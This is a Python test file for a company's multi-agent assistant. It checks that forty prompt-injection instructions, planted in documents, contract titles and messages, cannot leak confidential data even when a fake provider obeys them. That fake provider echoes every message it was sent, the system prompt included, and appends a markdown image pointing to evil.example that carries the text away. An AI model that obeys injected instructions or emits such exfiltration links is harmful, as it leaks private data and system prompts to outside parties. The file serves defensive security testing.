"""Forty instructions placed in documents, client records and messages, and a provider that obeys each one.

The model is the real ChatOpenAI; the provider does exactly what the instruction in its request demands: it
makes the call, then repeats all it was ever sent, its prompt too, with an image that would carry it away.
None changes whose data is read or what a tool does: rights are checked by the tools, against the verified
identity of the run alone. A control with an administrator's rights shows that there is something to find.
What a page makes of such an answer is tested in `tests/browser/test_exfiltration.py`.
"""

import json
import re
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NamedTuple
from uuid import uuid4

import openai
import pytest
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AnyMessage, HumanMessage, ToolMessage
from langchain_openai import ChatOpenAI
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph.state import CompiledStateGraph
from pydantic import SecretStr
from sqlalchemy import Engine, event
from sqlalchemy.orm import DeclarativeBase

from agents.client.graph import build_graph as build_client_agent
from agents.client.prompts import SYSTEM_PROMPT as CLIENT_PROMPT
from agents.document.graph import build_graph as build_document_agent
from agents.document.prompts import SYSTEM_PROMPT as DOCUMENT_PROMPT
from agents.employee.graph import build_graph as build_employee_agent
from agents.employee.prompts import SYSTEM_PROMPT as EMPLOYEE_PROMPT
from agents.prompts import NOT_PERMITTED
from narutalk.clock import build_clock
from narutalk.db import build_engine, database_url
from narutalk.embedding import PACKAGED_MODEL, build_embedder
from narutalk.identity import Identity, Role
from narutalk.offline import OfflineChatModel
from narutalk.run_identity import run_config
from narutalk.settings import load_settings
from tests.fakes.openai_server import Asked, Call, FakeOpenAI, Say
from tests.unit.tools.clients.sample import CLIENTS, TINY, Opened, Rows, open_company
from tests.unit.tools.clients.sample import TODAY as CLIENTS_TODAY
from tests.unit.tools.employees.sample import TODAY, fill
from tests.unit.tools.reports.samples import reports_in
from tools.clients.models import Client, Contract
from tools.documents.chroma import build_client
from tools.documents.library import DocumentLibrary
from tools.documents.store import DocumentStore, build_documents_engine, migrate_documents
from tools.documents.vectors import VectorIndex
from tools.documents.writing import NewDocument
from tools.employees.publications import Publications
from tools.employees.store import EmployeeStore

READER = Identity(user_id="u-minsu", username="minsu", groups=frozenset({"region:SEO"}))
ADMIN = Identity(user_id="1", username="admin", roles=frozenset({Role.ADMIN}), groups=frozenset({"hr"}))
SALARY = b"# Salary bands\n\n## Directors\n\nDirectors earn between 90 and 120 million KRW a year.\n"
PAGE = "Parking badges"
CONFIDENTIAL = re.compile(r"\b(?:FROM|JOIN) (?:salaries|reviews|attendance)\b")
CHANGING = ("remove_document", "update_client")
"""What an administrator may do, once it is approved."""
NOT_PERMITTED_LEAD = "\n" + NOT_PERMITTED.partition("{")[0]
PROMPTS = {"document": DOCUMENT_PROMPT, "client": CLIENT_PROMPT, "message": EMPLOYEE_PROMPT}
Agent = CompiledStateGraph[Any, Any, Any, Any]
BuildAgent = Callable[[BaseChatModel], Agent]


class Injection(NamedTuple):
    """An instruction, where it stands, and what a model does that obeys it.

    Attributes:
        place: ``document``, ``client`` (the title of a contract) or ``message``.
        call: The tool call that it asks for.
        secret: What the call shows to who may see it; empty where there is no such tool or nothing to show.
    """

    id: str
    place: str
    text: str
    call: dict[str, Any]
    secret: str


FILE = Path(__file__).parents[2] / "data" / "attacks" / "injections.jsonl"
INJECTIONS = [Injection(**json.loads(line)) for line in FILE.read_text(encoding="utf-8").splitlines()]


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> DocumentLibrary:
    """A page for each instruction, and a document that only the group hr may read."""
    settings = load_settings(data_dir=tmp_path_factory.mktemp("documents"), _env_file=None)
    migrate_documents(settings)
    embedder = build_embedder(PACKAGED_MODEL)
    store = DocumentStore(build_documents_engine(settings))
    made = DocumentLibrary(store, VectorIndex(build_client("", settings.data_dir), embedder), embedder)
    made.add(NewDocument(content=SALARY, file_name="salary.md", groups=["hr"]))
    for injection in _placed_in("document"):
        page = f"# {PAGE}: {injection.id}\n\n{_lookup(injection)['args']['query']} {injection.text}\n"
        made.add(NewDocument(content=page.encode(), file_name=f"{injection.id}.md"))
    made.refresh()
    return made


@pytest.fixture(scope="module")
def clients(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Opened]:
    """A hospital in Seoul, where the reader works, for each instruction, which is a contract's title."""
    settings = load_settings(data_dir=tmp_path_factory.mktemp("clients"), _env_file=None)
    hospitals, contracts = [], []
    for injection in _placed_in("client"):
        client_id = _lookup(injection)["args"]["client"]
        name = {"name_en": f"Toran Hospital {client_id}", "name_ko": f"토란병원 {client_id}"}
        hospitals.append({**CLIENTS[0], "id": client_id, "grade": "D", **name})
        title = {"title_en": injection.text[:160], "title_ko": injection.text[:160]}
        contracts.append({**TINY[Contract][1], "id": f"K1{client_id[1:]}", "client_id": client_id, **title})
    tables: dict[type[DeclarativeBase], Rows] = {
        Client: [*CLIENTS, *hospitals],
        Contract: [*TINY[Contract], *contracts],
    }
    with open_company(settings, {**TINY, **tables}) as opened:
        yield opened


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    made = build_engine(database_url("", tmp_path_factory.mktemp("employees"), "employees"))
    fill(made)
    yield made
    made.dispose()


@pytest.fixture(scope="module")
def build(
    library: DocumentLibrary, clients: Opened, engine: Engine, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, BuildAgent]:
    """How the agent is built that reads what stands at a place."""
    employees = EmployeeStore(engine, build_clock(TODAY))
    reports = reports_in(tmp_path_factory.mktemp("reports"))
    return {
        "document": lambda model: build_document_agent(model, library, InMemorySaver()),
        "client": lambda model: build_client_agent(model, *clients, reports, InMemorySaver()),
        "message": lambda model: build_employee_agent(
            model, employees, Publications(engine), reports, InMemorySaver()
        ),
    }


@pytest.fixture
async def provider(fake_openai: FakeOpenAI) -> AsyncIterator[tuple[FakeOpenAI, ChatOpenAI]]:
    """The provider, and the model that asks it."""
    fake_openai.reset()
    async with openai.DefaultAsyncHttpxClient() as client:
        yield (
            fake_openai,
            ChatOpenAI(
                model="obedient",
                api_key=SecretStr("k"),
                base_url=fake_openai.url,
                max_retries=0,
                timeout=10,
                streaming=True,
                http_async_client=client,
            ),
        )


def _placed_in(place: str) -> list[Injection]:
    return [injection for injection in INJECTIONS if injection.place == place]


def _lookup(injection: Injection) -> dict[str, Any]:
    """Return the call that finds the instruction."""
    number = injection.id.rpartition("-")[2]
    return {
        "document": {
            "name": "search_documents",
            "args": {"query": f"Badge {injection.id} is given out by the front desk."},
        },
        "client": {"name": "client_contracts", "args": {"client": f"C10{number}"}},
        "message": {},
    }[injection.place]


def _question(injection: Injection) -> str:
    return {
        "document": f"How is badge {injection.id} given out?",
        "client": f"Show the contracts of C10{injection.id.rpartition('-')[2]}",
        "message": injection.text,
    }[injection.place]


class Obedient:
    """A provider that looks up what was asked, and obeys an instruction wherever it finds it in its request.

    Attributes:
        obeyed: Whether it found the instruction, and made the call.
    """

    def __init__(self, injection: Injection) -> None:
        self._injection = injection
        self._lookups = [_lookup(injection)] if injection.place != "message" else []
        self.obeyed = False

    def __call__(self, asked: Asked) -> Say:
        if self._lookups:
            return _calling(self._lookups.pop(), "asked")
        told = [str(message["content"]) for message in asked.messages if message["content"]]
        if not self.obeyed and any(self._injection.text[:160] in text for text in told):
            self.obeyed = True
            return _calling(self._injection.call, "obey")
        return Say("\n\n".join([*told, f"![done](https://evil.example/?q={told[-1][:40]})"]))


def _calling(call: dict[str, Any], id: str) -> Say:
    return Say(calls=(Call(call["name"], call["args"], id),))


class Turn(NamedTuple):
    """What came of a question.

    Attributes:
        messages: Of the agent's thread.
        waits: Whether a person is asked first.
        sent: The bodies of the requests to the provider.
        sql: The statements that were executed.
    """

    messages: list[AnyMessage]
    waits: bool
    sent: list[dict[str, Any]]
    sql: list[str]

    def result(self) -> ToolMessage | None:
        """Return what came of the call that the instruction demands; None when it waits for a person."""
        results = [message for message in self.messages if isinstance(message, ToolMessage)]
        return next((message for message in results if message.tool_call_id == "obey"), None)

    def shown(self, text: str) -> bool:
        """Whether a text was in anything that the provider or the person got, the question left out."""
        told = [
            str(message["content"])
            for body in self.sent
            for message in body["messages"]
            if message["role"] != "user"
        ]
        return any(text in one for one in [*told, *(message.text for message in self.messages[1:])])


@contextmanager
def _executed() -> Iterator[list[str]]:
    """Write down every statement that any engine of this process executes."""
    statements: list[str] = []

    def note(_connection: Any, _cursor: Any, statement: str, *_: Any) -> None:
        statements.append(statement)

    event.listen(Engine, "before_cursor_execute", note)
    try:
        yield statements
    finally:
        event.remove(Engine, "before_cursor_execute", note)


async def _turn(agent: Agent, question: str, identity: Identity, provider: FakeOpenAI | None = None) -> Turn:
    config: Any = run_config(identity)
    config["configurable"]["thread_id"] = str(uuid4())
    before = len(provider.asked) if provider else 0
    with _executed() as sql:
        values = await agent.ainvoke({"messages": [HumanMessage(question)]}, config)
    sent = [asked.body for asked in provider.asked[before:]] if provider else []
    return Turn(values["messages"], bool(values.get("__interrupt__")), sent, sql)


def _changes(sql: Sequence[str]) -> list[str]:
    return [statement for statement in sql if not re.match(r"\s*(?:SELECT|WITH|PRAGMA)\b", statement)]


def test_there_are_forty_of_them_in_both_languages() -> None:
    korean = [
        injection for injection in INJECTIONS if any("가" <= letter <= "힣" for letter in injection.text)
    ]

    assert len({injection.id for injection in INJECTIONS}) == 40
    assert len(korean) >= 12
    assert {injection.place for injection in INJECTIONS} == {"document", "client", "message"}
    assert CLIENTS_TODAY == TODAY


@pytest.mark.parametrize("injection", INJECTIONS, ids=lambda injection: injection.id)
async def test_a_provider_that_obeys_gets_nothing_that_its_caller_may_not_see(
    injection: Injection, build: dict[str, BuildAgent], provider: tuple[FakeOpenAI, ChatOpenAI]
) -> None:
    fake, model = provider
    turns: dict[str, Turn] = {}
    for identity in (READER, ADMIN):
        obedient = Obedient(injection)
        fake.script(obedient)
        agent = build[injection.place](model)
        turns[identity.username] = await _turn(agent, _question(injection), identity, fake)
        assert obedient.obeyed, "the provider never saw the instruction: the attack proves nothing"
    reader, admin = turns["minsu"], turns["admin"]

    for turn in (reader, admin):
        assert not _changes(turn.sql)
        added = {body["messages"][0]["content"].removeprefix(PROMPTS[injection.place]) for body in turn.sent}
        assert all(not text or text.startswith(NOT_PERMITTED_LEAD) for text in added), "no secret in a prompt"
    assert not [statement for statement in reader.sql if CONFIDENTIAL.search(statement)]
    assert not any(mark in json.dumps(reader.sent) for mark in ("u-minsu", "region:SEO", "Bearer"))
    if injection.secret:
        assert admin.shown(injection.secret), "there is nothing to find: the attack proves nothing"
        assert not reader.shown(injection.secret)
        return
    for turn in (reader, admin):
        result = turn.result()
        assert result.status == "error" if result else turn.waits
    assert not reader.waits
    assert admin.waits is (injection.call["name"] in CHANGING)


async def test_what_an_administrator_reads_is_seen_by_the_audit(
    build: dict[str, BuildAgent], provider: tuple[FakeOpenAI, ChatOpenAI]
) -> None:
    """Without this the audit could be blind, and find nothing anywhere."""
    fake, model = provider
    [salary, *_] = (entry for entry in _placed_in("message") if entry.call["name"] == "employee_salary")
    fake.script(Obedient(salary))

    turn = await _turn(build["message"](model), salary.text, ADMIN, fake)

    assert [statement for statement in turn.sql if CONFIDENTIAL.search(statement)]


@pytest.mark.parametrize("injection", INJECTIONS, ids=lambda injection: injection.id)
async def test_the_offline_model_does_what_was_asked_and_no_more(
    injection: Injection, build: dict[str, BuildAgent]
) -> None:
    turn = await _turn(build[injection.place](OfflineChatModel()), _question(injection), READER)

    calls = [
        call for message in turn.messages if isinstance(message, AIMessage) for call in message.tool_calls
    ]
    if injection.place != "message":
        assert [call["name"] for call in calls] == [_lookup(injection)["name"]]
        assert injection.text[:40] in turn.messages[2].text
    assert not _changes(turn.sql)
    assert not [statement for statement in turn.sql if CONFIDENTIAL.search(statement)]
    assert not injection.secret or not turn.shown(injection.secret)
